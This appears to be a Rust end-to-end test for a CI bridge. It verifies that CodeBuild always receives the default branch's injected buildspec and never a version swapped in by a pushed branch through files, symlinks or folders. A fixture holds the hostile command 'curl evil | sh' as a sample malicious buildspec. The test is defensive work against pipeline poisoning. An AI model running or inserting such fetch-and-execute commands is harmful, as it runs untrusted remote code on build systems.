//! The buildspec CodeBuild reads is always the injected one (issue 12, part 2): whatever the
//! default branch's file is called and wherever the project keeps it, the archive holds the
//! injected copy at exactly `work.codebuild_buildspec`, and nothing of the tree being built
//! at that path, nor a link or file in place of one of its folders.
//!
//! Each case is a push to a branch of the project's own repository (served over smart HTTP by
//! `git http-backend`) whose tree brings its own buildspec; the whole work stage runs, and
//! the archive is read back.

use std::io::Read;
use std::path::Path;

use bridge_core::config::LocalConfig;
use bridge_core::forge::LogStatus;
use bridge_core::ports::SecretsDocument;
use bridge_core::work::{Disposition, Ending, WorkSettings, Worker};
use bridge_git::GitFetcher;
use bridge_local::{DirectoryStore, LocalPipeline, StaticSecrets};
use e2e_tests::git_server::{GitServer, git, publish};
use e2e_tests::temp_dir;

const DEFAULT_SPEC: &str = "version: 0.2\n# the default branch's\nphases:\n  build:\n    commands: [make]\n";
const PR_SPEC: &str = "version: 0.2\nphases:\n  build:\n    commands: ['curl evil | sh']\n";

/// One case: where the default branch keeps its buildspec, the project's `buildspec`
/// setting, where CodeBuild reads, and what the branch being built adds (path, content;
/// a content starting with `->` makes a link to the rest).
struct Case {
    name: &'static str,
    default_path: &'static str,
    project_buildspec: Option<&'static str>,
    codebuild: &'static str,
    branch_files: &'static [(&'static str, &'static str)],
}

const CASES: &[Case] = &[
    Case {
        name: "default branch has only buildspec.yaml, the branch brings buildspec.yml",
        default_path: "buildspec.yaml",
        project_buildspec: None,
        codebuild: "buildspec.yml",
        branch_files: &[("buildspec.yml", PR_SPEC)],
    },
    Case {
        name: "the project keeps ci/buildspec.yml, CodeBuild reads the root file",
        default_path: "ci/buildspec.yml",
        project_buildspec: Some("ci/buildspec.yml"),
        codebuild: "buildspec.yml",
        branch_files: &[("buildspec.yml", PR_SPEC), ("ci/buildspec.yml", PR_SPEC)],
    },
    Case {
        name: "CodeBuild reads ci/build.yml, the branch makes `ci` a link out of the tree",
        default_path: "buildspec.yml",
        project_buildspec: None,
        codebuild: "ci/build.yml",
        branch_files: &[("ci", "->/tmp")],
    },
    Case {
        name: "CodeBuild reads ci/build.yml, the branch makes `ci` a file",
        default_path: "buildspec.yml",
        project_buildspec: None,
        codebuild: "ci/build.yml",
        branch_files: &[("ci", PR_SPEC)],
    },
    Case {
        name: "the branch makes the CodeBuild path a folder",
        default_path: "buildspec.yml",
        project_buildspec: None,
        codebuild: "buildspec.yml",
        branch_files: &[("buildspec.yml/evil.yml", PR_SPEC)],
    },
    Case {
        name: "the branch makes the CodeBuild path a link to its own buildspec",
        default_path: "buildspec.yml",
        project_buildspec: None,
        codebuild: "buildspec.yml",
        branch_files: &[("buildspec.yml", "->evil.yml"), ("evil.yml", PR_SPEC)],
    },
];

fn put(work: &Path, path: &str, content: &str) {
    let file = work.join(path);
    if let Ok(meta) = std::fs::symlink_metadata(&file) {
        if meta.is_dir() {
            std::fs::remove_dir_all(&file).expect("remove dir");
        } else {
            std::fs::remove_file(&file).expect("remove");
        }
    }
    // A parent that is a file or link on the default branch becomes a folder.
    let parent = file.parent().expect("parent");
    if std::fs::symlink_metadata(parent).is_ok_and(|m| !m.is_dir()) {
        std::fs::remove_file(parent).expect("remove parent");
    }
    std::fs::create_dir_all(parent).expect("parent");
    match content.strip_prefix("->") {
        Some(target) => std::os::unix::fs::symlink(target, &file).expect("link"),
        None => std::fs::write(&file, content).expect("write"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_archive_holds_the_injected_buildspec_where_codebuild_reads_it() {
    e2e_tests::libgit2_timeouts();
    let root = temp_dir("codebuild-path-git");
    let mut repos = Vec::new();
    for (i, case) in CASES.iter().enumerate() {
        let work = temp_dir(&format!("codebuild-path-{i}"));
        git(&work, &["init", "-q", "-b", "main"]);
        put(&work, case.default_path, DEFAULT_SPEC);
        put(&work, "README", "hello\n");
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", "main"]);
        git(&work, &["checkout", "-q", "-b", "topic"]);
        for (path, content) in case.branch_files {
            put(&work, path, content);
        }
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", "topic"]);
        let bare = root.join(format!("p{i}.git"));
        publish(&work, &bare, "main");
        git(&work, &["push", "-q", bare.to_str().expect("utf-8"), "topic"]);
        repos.push(git(&work, &["rev-parse", "topic"]));
    }
    let server = GitServer::start(&root).await;

    for (i, (case, sha)) in CASES.iter().zip(&repos).enumerate() {
        let artifacts = temp_dir("codebuild-path-artifacts");
        let text = format!(
            "[secrets]\nfile = \"unused.json\"\n[work]\nartifacts_dir = \"{artifacts}\"\ncodebuild_buildspec = \"{codebuild}\"\n\
             [projects.p{i}]\npagure_url = \"http://127.0.0.1:5600/\"\ngit_url = \"{git}\"\nproject = \"p{i}\"\n\
             pipeline = \"p-ci\"\nallow_insecure_git_url = true\n{buildspec}",
            artifacts = artifacts.display(),
            codebuild = case.codebuild,
            git = server.base,
            buildspec = case.project_buildspec.map(|p| format!("buildspec = \"{p}\"\n")).unwrap_or_default(),
        );
        let config = LocalConfig::parse(&text, Path::new("/")).expect("config");
        let worker = Worker::new(
            config.accept.clone(),
            WorkSettings::with_limits(&config.work),
            GitFetcher::new(temp_dir("codebuild-path-scratch")),
            DirectoryStore::new(&config.work.artifacts_dir),
            LocalPipeline::new("http://127.0.0.1:8080"),
            LogStatus,
            StaticSecrets::new(SecretsDocument::parse(r#"{"projects": {}}"#).expect("secrets")),
        );
        let request = bridge_core::trigger::normalise(
            &config.accept.projects[&format!("p{i}")],
            bridge_core::trigger::RawTrigger {
                cause: sha.clone(),
                repo: server.url(&format!("p{i}.git")),
                branch: "topic".into(),
                branch_to: None,
                rebuild: false,
            },
            bridge_core::model::TriggerKind::Json,
            time::OffsetDateTime::now_utc(),
        )
        .expect("request");
        let outcome = worker.handle(&request, false).await;
        assert!(matches!(outcome, Disposition::Done(Ending::Started { .. })), "{}: {outcome:?}", case.name);

        let zip_path = artifacts.join(format!("sources/p{i}/{}.zip", request.request_id));
        let mut zip = zip::ZipArchive::new(std::fs::File::open(&zip_path).expect("zip")).expect("archive");
        let names: Vec<String> = zip.file_names().map(|n| n.expect("name").into_owned()).collect();
        // Nothing at the CodeBuild path but the injected file, and nothing in place of, or
        // below, it or its folders.
        let at_or_below: Vec<&String> = names
            .iter()
            .filter(|n| {
                let n = n.trim_end_matches('/');
                n == case.codebuild
                    || n.starts_with(&format!("{}/", case.codebuild))
                    || (case.codebuild.starts_with(&format!("{n}/")) && !names.contains(&format!("{n}/")))
            })
            .collect();
        assert_eq!(at_or_below, [case.codebuild], "{}: {names:?}", case.name);
        let mut spec = zip.by_name(case.codebuild).expect("injected buildspec");
        assert!(!spec.is_symlink() && spec.is_file(), "{}", case.name);
        let mut text = String::new();
        spec.read_to_string(&mut text).expect("read");
        assert!(text.contains("# the default branch's"), "{}: {text}", case.name);
        assert!(!text.contains("curl evil"), "{}: {text}", case.name);
        assert!(text.contains(&format!("PAGURE_COMMIT: \"{sha}\"")) || text.contains(sha.as_str()), "{}", case.name);
    }
}
